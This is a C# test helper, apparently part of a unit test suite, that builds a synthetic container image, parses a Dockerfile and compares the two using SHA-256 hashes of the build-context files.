    private static async Task<ImageComparison> CompareAsync(string builder, string[][] layers, string? settings = null, string[]? history = null, string? file = null, int baseLayers = 0, Dictionary<string, string>? context = null,
        System.Collections.Immutable.ImmutableSortedDictionary<string, string>? ofBase = null)
    {
        var image = new MadeImage([.. layers.Select(MadeLayer.Of)]) { Settings = settings ?? Settings, Author = builder == "kaniko" ? "kaniko" : null };
        image.History.AddRange(history ?? Histories[builder]);
        using var source = ImageTarget.OfStream(new MemoryStream(image.DockerArchive()), out _);
        var opened = Assert.IsType<ImageResult.Opened>(await source!.OpenAsync(ImageChoice.Only, TestContext.Current.CancellationToken));
        var reading = await ImageReading.ReadAsync(opened.Image, _ => NoContent.Instance, LayerLimits.Default with { HashesFiles = true }, 2, TestContext.Current.CancellationToken);
        var dockerfile = new DockerfileReader().Read(new SourceFile("Dockerfile"), Encoding.UTF8.GetBytes(file ?? File)).Facts.OfType<Dockerfile>().Single();
        var sent = context ?? Context;
        return ImageComparison.Create(reading, dockerfile, baseLayers, new(
            path => sent.TryGetValue(path, out var text) ? Digest.OfSha256(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(text))) : null,
            [.. sent.Keys.Order(StringComparer.Ordinal)]), ofBase);
    }
}
